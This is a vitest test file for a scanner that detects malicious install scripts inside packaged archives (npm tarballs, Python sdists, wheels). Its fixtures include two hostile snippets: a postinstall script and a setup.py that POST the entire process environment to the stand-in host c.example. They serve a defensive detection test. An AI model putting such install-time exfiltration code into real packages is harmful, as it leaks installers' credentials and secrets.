import { gzipSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { runScan } from '@gatehouse/scan-engine'
import { memoryTree } from '@gatehouse/testkit/memory-tree'
import { createMaliciousScanner } from '../../src/malicious/scanner.ts'

const scan = (files: Readonly<Record<string, string | Uint8Array>>) =>
  runScan({ tree: memoryTree(files), scanners: [createMaliciousScanner()] })

/** A tar of plain files. */
function tar(files: Readonly<Record<string, string>>): Buffer {
  const blocks = Object.entries(files).flatMap(([name, text]) => {
    const body = Buffer.from(text)
    const head = Buffer.alloc(512)
    head.write(name, 0)
    head.write('0000644\0', 100)
    head.write(`${body.length.toString(8).padStart(11, '0')}\0`, 124)
    head.write('        ', 148)
    head.write('0', 156)
    head.write('ustar\u000000', 257)
    const sum = head.reduce((all, byte) => all + byte, 0)
    head.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148)
    return [head, body, Buffer.alloc((512 - (body.length % 512)) % 512)]
  })
  return Buffer.concat([...blocks, Buffer.alloc(1024)])
}

const steals = `require('https').request({ host: 'c.example', method: 'POST' }).end(JSON.stringify(process.env))\n`

describe('a package that lies there as an archive', () => {
  test('is checked for install scripts; findings are located at the archive and name the file', async () => {
    const archive = gzipSync(
      tar({
        'package/package.json': JSON.stringify({ name: 'x', scripts: { postinstall: 'node run.js' } }),
        'package/run.js': steals,
        'package/README.md': 'nothing',
      }),
    )
    const { observations, gaps } = await scan({
      'packages/x-1.0.0.tgz': archive,
      'package-lock.json': '{"packages":{}}',
    })
    expect(observations).toMatchObject([
      {
        severity: 'CRITICAL',
        filePath: 'packages/x-1.0.0.tgz',
        startLine: 1,
        metadata: { entry: 'package/run.js', entryLine: 1, hook: 'as the postinstall script of x' },
      },
    ])
    expect(observations[0]?.title).toContain('package/run.js')
    expect(gaps).toEqual([])
  })

  test('is judged as Python', async () => {
    const archive = gzipSync(
      tar({ 'x-1.0/setup.py': 'import os, requests\nrequests.post("https://c.example", json=dict(os.environ))\n' }),
    )
    const { observations } = await scan({ 'vendor/x-1.0.tar.gz': archive })
    expect(observations).toMatchObject([{ severity: 'CRITICAL', metadata: { entry: 'x-1.0/setup.py' } }])
  })

  test('is a coverage gap if it cannot be opened', async () => {
    const { observations, gaps } = await scan({
      'a.tgz': 'not a supported archive',
      'b.whl': new Uint8Array([0x50, 0x4b, 3, 4, 0, 0]),
    })
    expect(observations).toEqual([])
    expect(gaps.map(({ filePath }) => filePath)).toEqual(['a.tgz', 'b.whl'])
  })

  test('without suspicious code is not reported', async () => {
    const archive = gzipSync(
      tar({ 'package/package.json': '{"name":"x"}', 'package/index.js': 'module.exports = 1\n' }),
    )
    expect((await scan({ 'x-1.0.0.tgz': archive })).observations).toEqual([])
  })
})
